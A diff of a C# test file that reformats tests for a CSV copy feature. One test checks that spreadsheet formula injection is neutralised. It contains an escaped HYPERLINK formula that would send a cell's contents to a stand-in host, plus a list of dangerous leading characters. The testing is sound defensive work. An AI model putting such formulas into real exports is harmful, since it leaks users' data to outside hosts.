@@ -17,7 +17,9 @@ public sealed partial class CopyTests(Browser browser, ReportPages pages)
         var lines = await Copied(tested, "trees=60");
         Assert.Equal(["rank", "trees", "leaves", "learningRate", "accuracy"], lines[0].Split(',').Take(5));
         Assert.Equal(
-            chosen.Select(c => string.Create(CultureInfo.InvariantCulture, $"{c.GetProperty("rank")},{c.Argument("trees")},{c.Argument("leaves")},{c.Argument("learningRate")},{c.Mean()}")),
+            chosen.Select(c => string.Create(
+                CultureInfo.InvariantCulture,
+                $"{c.GetProperty("rank")},{c.Argument("trees")},{c.Argument("leaves")},{c.Argument("learningRate")},{c.Mean()}")),
             lines.Skip(1).Select(line => string.Join(',', line.Split(',').Take(5))));
     }
 
@@ -26,11 +28,15 @@ public sealed partial class CopyTests(Browser browser, ReportPages pages)
     public async Task No_cell_is_one_that_a_spreadsheet_would_run()
     {
         var cells = Csv().Matches(string.Join('\n', await Copied(await pages.Hostile, "")))
-            .Select(cell => cell.Groups[1].Success ? cell.Groups[1].Value.Replace("\"\"", "\"", StringComparison.Ordinal) : cell.Groups[2].Value)
+            .Select(cell => cell.Groups[1].Success
+                ? cell.Groups[1].Value.Replace("\"\"", "\"", StringComparison.Ordinal)
+                : cell.Groups[2].Value)
             .ToList();
         Assert.Contains("'=HYPERLINK(\"http://host.invalid/\"&A1,\"free\")", cells);
         Assert.Contains("'@SUM(A1)", cells);
-        Assert.DoesNotContain(cells, cell => cell.Length > 0 && "=+-@\t\r".Contains(cell[0], StringComparison.Ordinal) && !double.TryParse(cell, CultureInfo.InvariantCulture, out _));
+        Assert.DoesNotContain(cells, cell => cell.Length > 0
+            && "=+-@\t\r".Contains(cell[0], StringComparison.Ordinal)
+            && !double.TryParse(cell, CultureInfo.InvariantCulture, out _));
     }
 
     /// <summary>The cells of a CSV text, in quotes or not.</summary>
